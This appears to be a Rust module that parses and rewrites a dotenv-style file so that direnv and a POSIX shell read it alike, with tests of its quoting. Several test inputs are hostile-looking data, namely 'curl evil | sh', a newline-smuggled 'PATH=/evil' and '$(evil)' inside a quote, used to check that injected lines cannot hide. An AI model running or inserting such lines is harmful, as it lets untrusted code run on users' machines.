//! `.sweatshop-env`: lines that direnv's `dotenv` and a POSIX shell's `.` read alike.
//!
//! Everything that a person wrote by hand (comments, unknown lines, another spelling) stays byte for byte unless its
//! variable is set again.

use std::collections::BTreeMap;

use crate::env_variable;
pub use crate::env_variable::VarValue;

/// The file's name at the top of the worktree.
pub const FILE: &str = ".sweatshop-env";

/// The file as read, line by line.
#[derive(Clone, Debug, Default)]
pub struct EnvFile {
    lines: Vec<EnvLine>,
}

#[derive(Clone, Debug)]
struct EnvLine {
    /// The line as found or to be written, with its end.
    raw: Vec<u8>,
    /// None for a comment or a blank line.
    var: Option<(String, VarValue)>,
}

impl EnvLine {
    fn is(&self, key: &str) -> bool {
        self.var.as_ref().is_some_and(|(name, _)| name == key)
    }

    /// Whether a shell reads this line on its own: it leaves no quote open, and continues on no other line.
    fn is_plain(&self) -> bool {
        !matches!(self.var, Some((_, VarValue::Opaque(_))))
    }
}

/// Compares values, however they are spelled, and comments: a review compares by value.
impl PartialEq for EnvFile {
    fn eq(&self, other: &EnvFile) -> bool {
        let comments = |file: &EnvFile| -> Vec<Vec<u8>> {
            file.lines.iter().filter(|line| line.var.is_none()).map(|line| line.raw.clone()).collect()
        };
        self.vars().eq(other.vars()) && comments(self) == comments(other)
    }
}

impl Eq for EnvFile {}

impl EnvFile {
    /// Parses any bytes. The exact inverse of [`EnvFile::to_bytes`]; it also accepts `export`, comments, blank lines and
    /// the spellings that only direnv takes for an assignment.
    pub fn parse(bytes: &[u8]) -> EnvFile {
        let mut file = EnvFile::default();
        let (mut rest, mut is_plain) = (bytes, true);
        while !rest.is_empty() {
            // direnv ends a line at a carriage return too.
            let length = rest.iter().position(|b| matches!(b, b'\r' | b'\n')).unwrap_or(rest.len());
            let (line, after) = rest.split_at(length);
            let end: &[u8] = if after.starts_with(b"\r\n") { b"\r\n" } else { b"\n" };
            rest = after.get(end.len()..).unwrap_or_default();
            // Below a line that may go on, what looks like a comment may be a command for a shell.
            let is_comment = is_plain && line.trim_ascii_start().starts_with(b"#");
            let var = (!is_comment && !line.trim_ascii().is_empty()).then(|| env_variable::read(line));
            let line = EnvLine { raw: [line, end].concat(), var };
            is_plain &= line.is_plain();
            file.lines.push(line);
        }
        file
    }

    pub fn value(&self, name: &str) -> Option<&VarValue> {
        self.vars().find(|(n, _)| *n == name).map(|(_, value)| value)
    }

    /// The line that sets a variable.
    pub fn line(&self, name: &str) -> &[u8] {
        self.lines.iter().rfind(|line| line.is(name)).map_or(&[], |line| &line.raw)
    }

    /// Every variable, sorted by name. If several lines set one variable, the last one counts.
    pub fn vars(&self) -> impl Iterator<Item = (&str, &VarValue)> {
        let vars = self.lines.iter().filter_map(|line| line.var.as_ref());
        vars.map(|(name, value)| (name.as_str(), value)).collect::<BTreeMap<_, _>>().into_iter()
    }

    /// Sets a variable in its line, or at the end if it is new. A variable that has this value already keeps its
    /// spelling.
    pub fn set(&mut self, name: &str, value: &VarValue) {
        if self.value(name) == Some(value) {
            return;
        }
        let mut raw = match value {
            VarValue::Text(text) => format!("{name}={}", quote(text)).into_bytes(),
            VarValue::Opaque(raw) => raw.clone(),
        };
        raw.push(b'\n');
        let line = EnvLine { raw, var: Some((name.to_owned(), value.clone())) };
        match self.lines.iter().rposition(|l| l.is(name)) {
            Some(at) => self.lines[at] = line,
            None => self.lines.push(line),
        }
    }

    pub fn unset(&mut self, name: &str) {
        self.lines.retain(|line| !line.is(name));
    }

    /// Whether the file contains nothing but blank lines.
    pub fn is_empty(&self) -> bool {
        self.lines.iter().all(|line| line.raw.trim_ascii().is_empty())
    }

    /// The lines, sorted by name if there are only plain variables. Otherwise they keep their order, because `A=$B/x`
    /// depends on a `B` before it.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut lines: Vec<&EnvLine> = self.lines.iter().collect();
        if lines.iter().all(|line| line.is_plain() && line.var.is_some()) {
            lines.sort_by_key(|line| line.var.as_ref().map(|(name, _)| name));
        }
        lines.iter().flat_map(|line| line.raw.iter().copied()).collect()
    }
}

/// The spelling of a value after `KEY=`, never with a raw newline.
pub fn quote(value: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_./:@%+,=-".contains(c);
    if value.chars().all(plain) {
        return value.to_owned();
    }
    if !value.contains(['\'', '\n']) {
        return format!("'{value}'");
    }
    let mut quoted = String::from("\"");
    for c in value.chars() {
        match c {
            '\n' => quoted.push_str("\\n"),
            '"' | '$' | '\\' | '`' => quoted.extend(['\\', c]),
            c => quoted.push(c),
        }
    }
    quoted + "\""
}

/// What is wrong with every spelling of a value, if there is none that both direnv and a shell understand.
pub fn spelling_problem(value: &str) -> Option<String> {
    if value.contains('\n') {
        Some(format!("contains a newline, which {FILE} cannot carry to sh (setup commands see the real one)"))
    } else if value.contains('\'') && value.contains(['$', '\\', '`']) {
        // direnv 2.32 mangles `\$` in double quotes.
        Some(format!("has no spelling that sh and direnv read alike ({FILE} is right for sh)"))
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn text(file: &EnvFile, name: &str) -> Option<String> {
        match file.value(name)? {
            VarValue::Text(text) => Some(text.clone()),
            VarValue::Opaque(_) => None,
        }
    }

    fn written(pairs: &[(&str, &str)]) -> String {
        let mut file = EnvFile::default();
        for (name, value) in pairs {
            file.set(name, &VarValue::Text((*value).to_owned()));
        }
        String::from_utf8(file.to_bytes()).unwrap()
    }

    #[test]
    fn each_kind_of_value_has_its_spelling() {
        insta::assert_snapshot!(
            written(&[("B", "nvim"), ("A", "a b"), ("C", "it's"), ("D", "it's $5"), ("E", "x\nPATH=/evil"), ("F", r#"say "hi" $x \n"#)]),
            @r#"
        A='a b'
        B=nvim
        C="it's"
        D="it's \$5"
        E="x\nPATH=/evil"
        F='say "hi" $x \n'
        "#
        );
    }

    #[test]
    fn spellings_that_people_use_are_understood() {
        let file = EnvFile::parse(
            b"# mine\n\nexport A=1\n  B='two words' # why\nC=\"q\\\"q\"\nD=it\\'s\nE=$HOME/x\nnonsense\nA=2",
        );
        assert_eq!(text(&file, "A"), Some("2".into()));
        assert_eq!(text(&file, "B"), Some("two words".into()));
        assert_eq!(text(&file, "C"), Some("q\"q".into()));
        assert_eq!(text(&file, "D"), Some("it's".into()));
        assert_eq!(file.value("E"), Some(&VarValue::Opaque(b"E=$HOME/x".to_vec())));
    }

    #[test]
    fn text_written_by_hand_stays_byte_for_byte() {
        let mut file = EnvFile::parse(b"# mine\nB='two' # why\nM=\"first\nsecond\"\nA=1\n");
        file.set("A", &VarValue::Text("2".into()));
        file.set("B", &VarValue::Text("two".into()));
        assert_eq!(String::from_utf8(file.to_bytes()).unwrap(), "# mine\nB='two' # why\nM=\"first\nsecond\"\nA=2\n");
    }

    #[test]
    fn lines_that_build_on_each_other_keep_their_order() {
        let mut file = EnvFile::parse(b"Z=/opt\nA=$Z/bin\nC=foo\\\nbar\n");
        file.set("B", &VarValue::Text("1".into()));
        file.set("Z", &VarValue::Text("/usr".into()));
        assert_eq!(String::from_utf8(file.to_bytes()).unwrap(), "Z=/usr\nA=$Z/bin\nC=foo\\\nbar\nB=1\n");
    }

    #[test]
    fn nothing_hides_within_a_quote_over_several_lines() {
        let text = "# mine\nA=\"$HOME\nX=evil\n# $(evil)\n\"\nB=1 # it's\n";
        let mut file = EnvFile::parse(text.as_bytes());
        let names: Vec<&str> = file.vars().map(|(name, _)| name).collect();
        assert_eq!(names.iter().filter(|name| !name.starts_with("line:")).collect::<Vec<_>>(), [&"A", &"B", &"X"]);
        assert_eq!(names.len(), 5, "{names:?}");
        file.set("NEW", &VarValue::Text("1".into()));
        assert_eq!(String::from_utf8(file.to_bytes()).unwrap(), format!("{text}NEW=1\n"));
        file.unset("A");
        assert!(file.to_bytes().starts_with(b"# mine\nX=evil\n# $(evil)\n"));
    }

    #[test]
    fn an_open_quote_hides_nothing_after_it() {
        let mut file = EnvFile::parse(b"Z=1\nA=\"x\nB=1\n");
        assert_eq!(file.vars().map(|(name, _)| name).collect::<Vec<_>>(), ["A", "B", "Z"]);
        file.unset("B");
        assert_eq!(file.to_bytes(), b"Z=1\nA=\"x\n");
    }

    #[test]
    fn assignments_for_direnv_alone_count_and_unknown_lines_get_a_name() {
        let file = EnvFile::parse(
            b"A = 1\nB: two\nexport C: 3 # why\n# note\rD=4\nE='x' # c\rF=6\n# idle\r\ncurl evil | sh\nG.h=1\n",
        );
        let names: Vec<&str> = file.vars().map(|(name, _)| name).collect();
        assert_eq!(&names[..7], ["A", "B", "C", "D", "E", "F", "G.h"]);
        assert!(names.len() == 8 && names[7].starts_with("line:"), "{names:?}");
        assert_eq!(["A", "B", "C"].map(|name| text(&file, name)), ["1", "two", "3"].map(|v| Some(v.to_owned())));
        assert_eq!(text(&file, "E"), Some("x".into()));
        assert_eq!(["D", "F"].map(|name| text(&file, name)), ["4", "6"].map(|v| Some(v.to_owned())));
        assert!(["G.h", names[7]].iter().all(|name| text(&file, name).is_none()));
        let mut less = file.clone();
        names.iter().for_each(|name| less.unset(name));
        assert_eq!(String::from_utf8(less.to_bytes()).unwrap(), "# note\n# idle\r\n");
    }

    proptest! {
        #[test]
        fn reading_is_the_inverse_of_writing(
            vars in proptest::collection::btree_map("[A-Z_]{1,4}", "[^\\x00\\r]{0,20}", 0..6)
        ) {
            let mut file = EnvFile::default();
            for (name, value) in &vars {
                file.set(name, &VarValue::Text(value.clone()));
            }
            let bytes = file.to_bytes();
            prop_assert_eq!(bytes.iter().filter(|b| **b == b'\n').count(), vars.len());
            let read = EnvFile::parse(&bytes);
            let read: BTreeMap<String, VarValue> = read.vars().map(|(n, v)| (n.to_owned(), v.clone())).collect();
            prop_assert_eq!(read, vars.into_iter().map(|(n, v)| (n, VarValue::Text(v))).collect());
        }
    }
}
